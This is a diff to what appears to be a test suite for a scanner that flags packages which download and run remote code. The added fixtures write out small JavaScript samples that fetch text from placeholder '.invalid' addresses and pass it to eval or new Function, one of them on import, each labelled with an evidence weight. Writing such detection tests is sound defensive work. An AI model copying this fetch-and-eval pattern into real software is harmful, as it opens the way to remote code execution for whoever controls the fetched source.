@@ -8,6 +8,40 @@ const UPDATES = `const fs = require('fs'), path = require('path'), os = require(
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a page compiles what stands in a file of its site',
+      files: {
+        'index.js': `exports.start = async () => { const text = await (await fetch('config.yml')).text(); return new Function('v', text.toUpperCase()); }`,
+      },
+      weight: 'context',
+    },
+    {
+      when: 'a test calls with an example what others call with their own address',
+      files: {
+        'package.json': { name: 'specimen', exports: { '.': './index.js', './src/*': './src/*' } },
+        'index.js': '1',
+        'src/fetch.js': `exports.load = url => fetch(url).then(r => r.text())`,
+        'src/run.js': `const { load } = require('./fetch'); exports.run = async url => eval(await load(url))`,
+        'src/fetch.test.js': `require('./run').run('https://example.invalid')`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'an answer goes through another file to what runs it when it is called',
+      files: {
+        'index.js': `const { load } = require('./fetch'); exports.run = async () => eval(await load())`,
+        'fetch.js': `exports.load = () => fetch('https://files.invalid/x').then(r => r.text())`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'it goes there when it is imported',
+      files: {
+        'index.js': `const { load } = require('./fetch'); load().then(text => eval(text))`,
+        'fetch.js': `exports.load = () => fetch('https://files.invalid/x').then(r => r.text())`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'files that nothing reaches fetch and start programs for others, each a part',
       files: {
         'index.js': 'module.exports = 1;',
